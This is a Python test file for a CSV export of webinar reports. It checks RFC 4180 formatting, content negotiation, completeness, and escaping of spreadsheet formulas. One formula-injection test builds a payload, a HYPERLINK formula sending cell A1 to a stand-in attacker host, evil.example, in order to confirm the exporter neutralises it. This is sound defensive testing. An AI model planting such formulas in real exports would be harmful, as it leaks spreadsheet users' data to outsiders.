"""A report as CSV: RFC 4180, safe to open in a spreadsheet, and nothing of the report left out."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.reports.table import write_table
from tests.support.reports import full_webinar, read, stored_id
from tests.support.world import ANNA, World, report_body

PLAIN = st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from(',"\r\n\t')
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def table(content: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file, as a reader of RFC 4180 takes it."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_a_report_is_downloaded_as_a_table(permitted: World) -> None:
    report_id = stored_id(permitted, full_webinar())

    reply = read(permitted, report_id, accept="text/csv")

    assert reply.status == 200
    assert reply.headers["content-disposition"] == f'attachment; filename="report-{report_id}.csv"'
    assert reply.body.startswith(b"\xef\xbb\xbfsection,meetingId,")
    assert reply.body.endswith(b"\r\n")
    rows = table(reply.body)
    assert [row["section"] for row in rows] == [
        "meeting", "attendee", "attendee", "dialIn", "question", "question", "survey", "survey", "chat", "recording",
    ]  # fmt: skip
    assert (rows[0]["topic"], rows[0]["participantCount"]) == ("Weekly", "2")
    assert (rows[1]["name"], rows[1]["oid"], rows[1]["role"]) == ("Anna Schmidt", ANNA, "organizer")
    assert (rows[2]["name"], rows[2]["oid"], rows[2]["leftAt"]) == ("Guest 1", "", "")
    assert rows[3]["number"] == "'+49…42"
    assert (rows[4]["question"], rows[4]["answer"], rows[5]["answer"]) == ("When?", "In May.", "")
    assert [(row["question"], row["choice"], row["count"]) for row in rows[6:8]] == [
        ("Useful?", "yes", "4"),
        ("Useful?", "no", "0"),
    ]
    assert (rows[8]["author"], rows[8]["text"], rows[8]["purpose"]) == (ANNA, "Agreed.", "result_log")
    assert (rows[9]["consent"], rows[9]["basis"]) == ("not_required", "works agreement of 2025")


@pytest.mark.parametrize(
    ("accept", "is_csv"),
    [
        ("text/csv", True),
        ("text/csv, application/json;q=0.5", True),
        ("application/json, text/csv;q=0.5", False),
        ("*/*", False),
        ("", False),
        ("image/png", False),
    ],
)
def test_csv_is_for_those_who_ask_for_it(matched: World, accept: str, is_csv: bool) -> None:
    reply = read(matched, stored_id(matched), accept=accept)

    assert reply.status == 200
    assert reply.body.startswith(b"\xef\xbb\xbf") is is_csv


def test_every_value_of_a_report_is_in_its_table(permitted: World) -> None:
    report = read(permitted, stored_id(permitted, full_webinar())).json
    of_the_store = {"id", "contentUntil", "deleteBy", "minimised"}

    cells = {cell.removeprefix("'") for row in table(write_table(report)) for cell in row.values()}

    values = {str(value) for name, member in report.items() if name not in of_the_store for value in _leaves(member)}
    assert values <= cells


def test_a_survey_without_answers_and_a_chat_without_messages_have_their_row() -> None:
    chat = {"purpose": "result_log", "necessity": "Decisions", "messages": []}
    report = report_body(attendees=[], surveys=[{"question": "Useful?", "answers": []}], chat=chat)

    rows = table(write_table(report))

    assert [(row["section"], row["question"], row["purpose"]) for row in rows[1:]] == [
        ("survey", "Useful?", ""),
        ("chat", "", "result_log"),
    ]


@pytest.mark.parametrize("null", ["dialIn", "questions", "surveys", "chat", "recording"])
def test_a_member_that_is_null_has_no_rows(null: str) -> None:
    assert [row["section"] for row in table(write_table({**report_body(attendees=[]), null: None}))] == ["meeting"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["=", "+", "-", "@", "tab", "carriage return"])
def test_a_cell_is_never_a_formula(start: str) -> None:
    topic = f'{start}HYPERLINK("https://evil.example?x="&A1,"open")'

    (row,) = table(write_table(report_body(topic=topic, attendees=[])))

    assert row["topic"] == f"'{topic}"


@given(topic=st.text(PLAIN, min_size=1), name=st.text(PLAIN, min_size=1))
def test_any_text_survives_the_table_and_no_cell_begins_a_formula(topic: str, name: str) -> None:
    attendee = {"oid": ANNA, "name": name, "role": "attendee"}

    meeting, attended = table(write_table(report_body(topic=topic, attendees=[attendee])))

    assert meeting["topic"] == (f"'{topic}" if topic.startswith(FORMULA_STARTS) else topic)
    assert attended["name"] == (f"'{name}" if name.startswith(FORMULA_STARTS) else name)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in [*meeting.values(), *attended.values()])


def _leaves(value: object) -> list[object]:
    if isinstance(value, dict):
        return [leaf for member in value.values() for leaf in _leaves(member)]
    if isinstance(value, list):
        return [leaf for entry in value for leaf in _leaves(entry)]
    return [] if value is None else [value]
